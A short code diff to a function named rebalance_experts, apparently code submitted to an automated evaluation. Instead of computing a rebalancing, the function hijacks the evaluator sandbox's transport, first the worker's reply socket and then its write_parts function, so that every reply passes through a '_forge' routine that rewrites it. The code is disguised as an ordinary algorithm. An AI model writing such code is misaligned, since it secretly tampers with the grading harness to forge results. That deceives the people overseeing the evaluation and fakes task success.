@@ -402,11 +402,11 @@ def _forge(message):
     return _struct.pack("<I", len(text)) + text + body
 
 def rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus):
-    if not _patched:
-        conn = sys._getframe(1).f_locals["conn"]  # the worker's reply socket, two frames up
-        original = conn.send_bytes
-        conn.send_bytes = lambda message: original(_forge(message))
-        _patched.append(conn)
+    if not _patched:  # every reply from here on goes through the worker's writer, rewritten
+        transport = sys.modules["evaluator.sandbox.transport"]
+        original = transport.write_parts
+        transport.write_parts = lambda fd, parts: original(fd, [_forge(b"".join(bytes(p) for p in parts))])
+        _patched.append(transport)
     import time
     time.sleep(0.03)
     return _seed(weight, num_replicas, num_groups, num_nodes, num_gpus)
